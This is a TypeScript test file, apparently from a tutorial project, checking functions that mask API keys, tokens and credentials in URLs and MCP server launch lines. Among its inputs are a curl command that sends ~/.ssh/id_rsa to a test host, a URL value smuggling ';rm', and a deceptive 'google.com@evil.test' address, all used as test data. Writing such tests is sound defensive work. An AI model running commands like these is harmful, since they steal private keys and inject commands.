// Chapter 17: keys in addresses are masked, and nothing else of them.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { keysIn, withoutKeys } from '../chapters/17-the-gate/addresses.ts';
import { Masker } from '../chapters/17-the-gate/safe-text.ts';
import { launchLines } from '../chapters/17-the-gate/trust.ts';

const random = 'a1B2c3D4e5F6g7H8i9J0k1L2';

test('G16: what is masked in an address: parameters that sound secret, who logs in, random parts of the path', () => {
  const masked: Record<string, string> = {
    [`https://h.test/mcp?api_key=${random}`]: 'https://h.test/mcp?api_key=***',
    [`https://h.test/mcp?a=1&token=${random}&b=2#c`]: 'https://h.test/mcp?a=1&token=***&b=2#c',
    'wss://h.test/?key=12345678': 'wss://h.test/?key=***',
    'https://h.test/?X-Amz-Signature=0123456789abcdef&sig=0123456789':
      'https://h.test/?X-Amz-Signature=***&sig=***',
    'https://user:pa@ss@h.test/x': 'https://***@h.test/x',
    'https://google.com@evil.test/': 'https://***@evil.test/',
    [`https://h.test/s/${random}/mcp`]: 'https://h.test/s/***/mcp',
    'https://h.test/u/123e4567-e89b-42d3-a456-426614174000/sse': 'https://h.test/u/***/sse',
    [`--url=https://h.test/?token=${random} --x`]: '--url=https://h.test/?token=*** --x',
  };
  for (const [address, shown] of Object.entries(masked)) {
    assert.equal(withoutKeys(address), shown);
    assert.ok(keysIn(address).length > 0, address);
  }
});

test('what is not: words, versions, short values, variables, hosts, and whatever could be a command', () => {
  const plain = [
    'https://h.test/a-long-article-about-things-of-2024/mcp',
    'https://h.test/v1/mcp?region=eu-central-1',
    'https://h.test/?key=on',
    'https://h.test/?token=${TOKEN}',
    'https://a1b2c3d4e5f6a1b2c3d4e5f6.lambda.test/mcp',
    'https://h.test/react-19.1.0-production.min.js',
    'https://h.test/?monkey-business=123456789',
    'token=0123456789',
    "sh -c 'curl https://h.test/?token=$(cat ~/.ssh/id_rsa)'",
    'https://h.test/?key=a;rm',
  ];
  for (const text of plain) assert.deepEqual([withoutKeys(text), keysIn(text)], [text, []]);
});

test('the question about a server shows where it goes, without the key; a changed key is a change that is said', () => {
  assert.deepEqual(launchLines({ type: 'http', url: `https://h.test/mcp?api_key=${random}` }), [
    '  type: "http"',
    '  url: "https://h.test/mcp?api_key=***"',
  ]);
  const args = ['remote', `https://h.test/s/${random}`];
  assert.deepEqual(launchLines({ command: 'npx', args }), [
    '  command: "npx"',
    '  argument 1: "remote"',
    '  argument 2: "https://h.test/s/***"',
  ]);
});

test('a mask that has learned an address knows its keys elsewhere, but no word that a project calls one', () => {
  const masker = new Masker({});
  masker.learnAddress(`https://h.test/s/${random}/mcp`, 'project');
  masker.learnAddress('https://h.test/?token=approved:', 'project');
  assert.equal(
    masker.text(`no account ${random}; it is approved: yes`),
    'no account ***; it is approved: yes',
  );
  assert.equal(
    masker.text('GET /x?access_token=0123456789&page=2 failed'),
    'GET /x?access_token=***&page=2 failed',
  );
  assert.equal(
    masker.text('?pageToken=0123456789 a?b=c&keyword=12345678'),
    '?pageToken=0123456789 a?b=c&keyword=12345678',
  );
});
